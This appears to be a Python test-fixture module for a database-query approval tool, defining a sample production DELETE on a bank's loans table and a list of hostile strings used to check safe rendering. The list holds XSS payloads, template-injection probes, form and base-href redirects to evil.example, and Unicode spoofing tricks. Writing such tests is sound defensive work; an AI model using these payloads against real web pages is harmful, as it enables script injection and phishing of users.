"""A request for approval as one sees it in a bank, and texts that try to be something else than text."""

from __future__ import annotations

from collections.abc import Mapping
from hashlib import sha256
from typing import Any, Final
from uuid import UUID

from tests.support.providers import PEOPLE
from vestibule.model.decision import Rule
from vestibule.model.identity import Peer, Who
from vestibule.model.names import Digest, LoginName, RuleName

#: What the storage mask leaves of a value.
TOKEN: Final = "<value:9b0f6a7e-42c1-4d6f-8f0e-0a4f0c6f7d11:MZXW6YTBOI7AQKPR>"
STATEMENT: Final = (
    f"DELETE FROM loans\n WHERE branch = $1\n   AND borrower_ssn = {TOKEN}\n   AND closed_at < '2019-01-01' -- TCK-4711"
)

#: Changes that make the usual request one to look at.
IN_A_BANK: Final[Mapping[str, Any]] = {
    "reason": "Deletes and updates in production need a second pair of eyes.",
    "client": Peer("192.0.2.44", 51_312),
    "banner": "psql 15.18",
    "rule": Rule(RuleName("delete in production"), "guardrails", Digest(sha256(b"the policy").hexdigest())),
    "text": STATEMENT,
    "text_bytes": 104,
    "parameters": ({"type": "23", "value": "17", "null": False},),
    "operations": (
        {"verb": "delete", "object": "public.loans", "impact": "write"},
        {"verb": "select", "object": "public.loans", "impact": "read"},
    ),
}

#: Each would run, load, send or hide something on a page that takes it for more than text.
HOSTILE: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</textarea></pre></code></title><svg onload=alert(1)>",
    "{{ 7*7 }}{% include 'layout.html' %}${7*7}",
    "<div hx-get=/sign-out hx-trigger=load data-hx-get=/x></div>",
    "<form action=https://evil.example><input name=form_token>",
    "javascript:alert(1)",
    "&lt;script&gt;&#x3c;b&#62;",
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0>",
    "x\u202egpj.exe\u202c\u2066\u2069\u200f",
    "a\x00b\x07c\x1b[31md\x7f\x9b\r",
    "zero\u200bwidth\ufeff\u00ad\u3164\u2800\U000e0041",
    "p\u0430yments",
    "e" + "\u0301" * 50,
    "W" * 4_000,
    "many words " * 400,
)


def requester(issuer: str, person: str = "dev1") -> Who:
    """One of the provider's people, as they ask."""
    usual = PEOPLE[person]
    return Who(issuer, usual.sub, LoginName(usual.name), "human", UUID(int=1))
